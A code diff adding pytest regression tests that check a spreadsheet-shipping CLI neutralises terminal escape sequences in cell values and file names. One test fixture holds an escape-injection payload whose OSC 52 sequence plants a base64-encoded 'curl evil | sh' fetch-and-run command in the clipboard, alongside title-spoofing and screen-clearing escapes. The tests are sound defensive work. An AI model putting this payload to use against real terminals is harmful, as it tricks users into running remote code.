@@ -148,3 +148,29 @@ def test_text_in_square_brackets_prints_literally(capsys, tmp_path, sheet):
     assert "Batch [red]Q4:" in err  # the batch name as given, not swallowed as markup
     code, err = _run(capsys, "validate", str(tmp_path / "[missing].csv"))
     assert "[missing].csv" in _error_line(err)
+
+
+ESCAPES = "=\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\\x1b]0;PWNED\x07\x1b[2J\x9b31m"
+
+
+@pytest.mark.parametrize("command", [["validate"], ["run", "--yes"]])
+def test_terminal_escapes_in_a_cell_are_shown_never_sent_to_the_terminal(capsys, tmp_path, sheet, command):
+    """Found by hunter-hostile6: a cell holding terminal escapes was quoted raw in its row's error ('Row 3,
+    column 'Full Name': '=...' is the text of a formula'): OSC 52 wrote the terminal's clipboard, OSC 0 its
+    title, CSI 2J cleared the screen (click strips colour codes off a pipe, never on a terminal; rich strips
+    a bell, never ESC). Each control character is shown as its symbol, ESC as '␛'."""
+    sheet.write_text(SHEET + f"C2,{ESCAPES},1 Elm St,Boston,MA,02108,CVS,$10.00,Standard\n", encoding="utf-8")
+    code = main([command[0], str(sheet), *command[1:], "--out", str(tmp_path / "out")])
+    captured = capsys.readouterr()
+    assert code == (1 if command == ["validate"] else 3), captured.err  # a row to fix
+    said = captured.out + captured.err
+    assert not any(char in said for char in "\x1b\x07\x9b"), said
+    assert "'=␛]52;c;Y3VybCBldmlsIHwgc2g=␛\\␛]0;PWNED␇␛[2J" in said, said
+
+
+def test_a_file_name_holding_a_line_break_is_named_on_the_error_s_one_line(capsys, sheet):
+    """hunter-hostile5's LO1: `bulkship validate $'new\\nline.csv'` printed 'Error: File not found: new' and
+    'line.csv' on the next line; a line break or an escape in a file name is shown as a symbol."""
+    code, err = _run(capsys, "validate", "new\nline\x1b[31m.csv")
+    assert code == 2
+    assert "File not found: new␤line␛[31m.csv" in _error_line(err), err
